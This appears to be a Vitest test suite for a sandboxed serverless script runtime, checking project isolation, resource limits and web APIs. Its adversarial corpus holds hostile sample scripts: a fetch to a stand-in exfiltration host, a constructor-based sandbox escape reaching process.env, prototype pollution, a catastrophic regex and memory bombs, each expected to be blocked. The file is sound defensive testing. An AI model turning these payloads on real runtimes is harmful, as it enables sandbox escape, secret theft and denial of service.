import { describe, expect, it } from "vitest";
import { api, invoke, newProject, upload } from "./helpers";

describe("invoke", () => {
  it("imports the project's lib/ scripts with or without .js, and sees a new lib version", async () => {
    const { project } = await newProject();
    await upload(project, "lib/util/strings", "export const shout = (s) => s.toUpperCase() + '!'");
    await upload(project, "function/x/y", "import { shout } from '../../lib/util/strings';\nimport * as again from '../../lib/util/strings.js';\nexport default (ctx) => shout(ctx.input.name) + (again.shout === shout)");
    const first = await invoke(project, "function/x/y", [{ input: { name: "bob" } }]);
    expect(first.body).toMatchObject({ ok: true, result: "BOB!true", logs: [] });
    await upload(project, "lib/util/strings", "export const shout = (s) => s.toLowerCase() + '?'");
    expect((await invoke(project, "function/x/y", [{ input: { name: "BOB" } }])).body.result).toBe("bob?true");
  });

  it("never resolves another project's script, bare specifiers, or non-lib paths", async () => {
    const a = await newProject("imp-a");
    const b = await newProject("imp-b");
    await upload(a.project, "lib/secret", "export const secret = 'a-only'");
    await upload(b.project, "function/steal", `import { secret } from '../../${a.project}/lib/secret';\nexport default () => secret`);
    await upload(b.project, "function/steal2", "import { secret } from '../lib/secret';\nexport default () => secret");
    await upload(b.project, "function/bare", "import x from 'node:fs';\nexport default () => x");
    for (const path of ["function/steal", "function/steal2", "function/bare"]) {
      const reply = await invoke(b.project, path);
      expect(reply.status).toBe(200);
      expect(reply.body.ok, path).toBe(false);
      expect(reply.body.error.code).toBe("script_error");
      expect(reply.body.error.message).toMatch(/cannot import/);
      expect(JSON.stringify(reply.body)).not.toContain("a-only");
    }
  });

  it("passes arguments deeply read-only and leaves the caller's copy alone", async () => {
    const { project } = await newProject();
    await upload(project, "function/mut", "export default (ctx) => { try { ctx.input.items[0].n = 9 } catch (e) { return [e.name, ctx.input.items[0].n, Object.isFrozen(ctx)] } return 'mutated' }");
    const reply = await invoke(project, "function/mut", [{ input: { items: [{ n: 1 }] } }]);
    expect(reply.body.result).toEqual(["TypeError", 1, true]);
  });

  it("captures console output per call, runs named and nested exports, and reports usage", async () => {
    const { project } = await newProject();
    await upload(project, "instruction/echo", "export default { run(x) { console.warn('running', { x }); return x * 2 } }\nexport const named = () => 'named'");
    const run = await invoke(project, "instruction/echo", [21], { export: "default.run" });
    expect(run.body).toMatchObject({ ok: true, result: 42, logs: [{ level: "warn", message: 'running {"x": 21}' }] });
    expect(run.body.usage.memoryBytes).toBeGreaterThan(0);
    expect((await invoke(project, "instruction/echo", [], { export: "named" })).body.result).toBe("named");
    const missing = await invoke(project, "instruction/echo", [], { export: "nothing" });
    expect(missing.body).toMatchObject({ ok: false, error: { code: "script_error" } });
    expect((await invoke(project, "function/none")).status).toBe(404);
  });

  it("gives thrown errors the script's path, line and column", async () => {
    const { project } = await newProject();
    await upload(project, "function/throws", "export default () => {\n  throw new RangeError('nope');\n}");
    const reply = await invoke(project, "function/throws");
    expect(reply.body.error).toMatchObject({ code: "script_error", message: "RangeError: nope" });
    expect(reply.body.error.stack).toContain("function/throws:2:");
  });

  it("offers the web surface of api.md", async () => {
    const { project } = await newProject();
    await upload(
      project,
      "function/web",
      `export default async () => {
        const url = new URL("/a b?x=1", "https://example.com");
        url.searchParams.set("y", "2 3");
        const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode("abc")));
        const random = crypto.getRandomValues(new Uint8Array(8));
        const headers = new Headers({ "X-A": "1" });
        headers.append("x-a", "2");
        return {
          href: url.href, host: url.host, params: [...url.searchParams],
          text: new TextDecoder().decode(new TextEncoder().encode("héllo ✓")),
          b64: [btoa("hi"), atob("aGk=")],
          clone: structuredClone({ d: [1, { e: 2 }] }),
          uuid: /^[0-9a-f-]{36}$/.test(crypto.randomUUID()),
          digest: Array.from(digest.slice(0, 4)), random: random.length,
          header: headers.get("X-A"),
          json: await Response.json({ ok: 1 }).json(),
        };
      }`,
    );
    const reply = await invoke(project, "function/web");
    expect(reply.body.result).toEqual({
      href: "https://example.com/a%20b?x=1&y=2+3",
      host: "example.com",
      params: [["x", "1"], ["y", "2 3"]],
      text: "héllo ✓",
      b64: ["aGk=", "hi"],
      clone: { d: [1, { e: 2 }] },
      uuid: true,
      digest: [186, 120, 22, 191],
      random: 8,
      header: "1, 2",
      json: { ok: 1 },
    });
  });

  it("applies the project's limits from its settings", async () => {
    const { project } = await newProject();
    await upload(project, "function/size", "export default (n) => 'x'.repeat(n)");
    expect((await invoke(project, "function/size", [2000])).body.ok).toBe(true);
    const patched = await api("PATCH", `/v1/projects/${project}`, { json: { limits: { resultBytes: 1000 } } });
    expect(patched.status).toBe(200);
    expect((await invoke(project, "function/size", [2000])).body.error.code).toBe("result_too_large");
  });
});

describe("the wall-clock limit", () => {
  it("is a project setting: a script that sleeps past it ends with wall_clock_exceeded; out of bounds is 400, storing nothing", async () => {
    const { project } = await newProject("wall");
    await upload(project, "function/sleepy", "export default async (ms) => { await new Promise((r) => setTimeout(r, ms)); return ms; }");
    expect((await invoke(project, "function/sleepy", [10])).body).toMatchObject({ ok: true, result: 10 });
    for (const wallMs of [0, 300_001, 1.5]) {
      expect((await api("PATCH", `/v1/projects/${project}`, { json: { limits: { wallMs } } })).status).toBe(400);
    }
    expect((await api("GET", `/v1/projects/${project}`)).body.settings).toEqual({});
    expect((await api("PATCH", `/v1/projects/${project}`, { json: { limits: { wallMs: 50 } } })).status).toBe(200);
    expect((await invoke(project, "function/sleepy", [60_000])).body).toMatchObject({ ok: false, error: { code: "wall_clock_exceeded" } });
    expect((await invoke(project, "function/sleepy", [10])).body).toMatchObject({ ok: true, result: 10 });
  });
});

describe("adversarial corpus: each ends in its error and the next call works", () => {
  const corpus: [string, string, string][] = [
    ["infinite loop", "export default () => { for (;;) {} }", "cpu_budget_exceeded"],
    ["catastrophic regex", "export default () => /^(a+)+$/.test('a'.repeat(40) + 'b')", "cpu_budget_exceeded"],
    ["deep recursion", "export default function f(n = 0) { return f(n + 1) + 1 }", "stack_overflow"],
    ["allocation bomb", "export default () => { const a = []; for (;;) a.push({ n: a.length, s: 'x' + Math.random() }) }", "memory_limit_exceeded"],
    ["one huge allocation", "export default () => new Uint8Array(2e8).length", "memory_limit_exceeded"],
    // Its cost (1e8 elements filled) is past the CPU budget, so it is refused before it allocates anything.
    ["one huge fill", "export default () => new Array(1e8).fill(0).length", "cpu_budget_exceeded"],
    ["native allocations between polls", "const keep = []; export default () => { for (let i = 0; i < 60; i++) keep.push(new Float64Array(100000).fill(i)); return keep.length }", "memory_limit_exceeded"],
    ["large buffers between polls", "export default () => { const keep = []; for (;;) keep.push(new Uint8Array(1e6)) }", "memory_limit_exceeded"],
    // Each repeat is charged 6 ms, so the budget runs out before the memory does.
    ["large strings between polls", "export default () => { const keep = []; for (;;) keep.push('x'.repeat(1e6) + keep.length) }", "cpu_budget_exceeded"],
    ["huge result", "export default () => 'x'.repeat(2 * 1024 * 1024)", "result_too_large"],
    ["fetch to a host not allowed", "export const permissions = { net: ['api.example.com'] };\nexport default async () => (await fetch('https://evil.example.net/steal')).status", "permission_denied"],
    ["reach host objects", "export default () => globalThis.constructor.constructor('return process')().env", "script_error"],
    ["mutate a shared prototype", "export default () => { Object.prototype.polluted = 1; Array.prototype.map = () => 'pwned'; return 1 }", "script_error"],
    ["replace a global", "export default () => { globalThis.fetch = () => 'mine'; return 1 }", "script_error"],
    ["a promise that never settles", "export default () => new Promise(() => {})", "script_error"],
  ];

  it.each(corpus)("%s", async (_name, source, code) => {
    const { project } = await newProject("adv");
    // Allocating that much costs more CPU than the default budget: the memory cases get a budget that lasts.
    if (code === "memory_limit_exceeded") expect((await api("PATCH", `/v1/projects/${project}`, { json: { limits: { cpuMs: 30_000 } } })).status).toBe(200);
    await upload(project, "function/evil", source);
    await upload(project, "function/good", "export default () => [[1, 2].map((x) => x * 2), typeof fetch, ({}).polluted]");
    const evil = await invoke(project, "function/evil");
    expect(evil.status).toBe(200);
    expect(evil.body.ok).toBe(false);
    expect(evil.body.error.code).toBe(code);
    // The same project's runtime and another project's both still work, with pristine built-ins.
    expect((await invoke(project, "function/good")).body).toMatchObject({ ok: true, result: [[2, 4], "function", null] });
    const other = await newProject("adv-other");
    await upload(other.project, "function/good", "export default () => [1, 2].map((x) => x + 1)");
    expect((await invoke(other.project, "function/good")).body.result).toEqual([2, 3]);
  });

  it("huge logs are cut at the log limit with a note, and the call still answers", async () => {
    const { project } = await newProject("adv");
    // 20,000 log calls cost ~130 ms of CPU (host crossings and formatting): past the default budget.
    expect((await api("PATCH", `/v1/projects/${project}`, { json: { limits: { cpuMs: 2000 } } })).status).toBe(200);
    await upload(project, "function/chatty", "export default () => { for (let i = 0; i < 20000; i++) console.log('line', i, 'x'.repeat(100)); return 'done' }");
    const reply = await invoke(project, "function/chatty");
    expect(reply.body.ok).toBe(true);
    expect(reply.body.result).toBe("done");
    const total = reply.body.logs.reduce((n: number, l: { message: string }) => n + l.message.length, 0);
    expect(total).toBeLessThan(64 * 1024 + 200);
    expect(reply.body.logs.at(-1).message).toMatch(/log entries dropped/);
  });
});
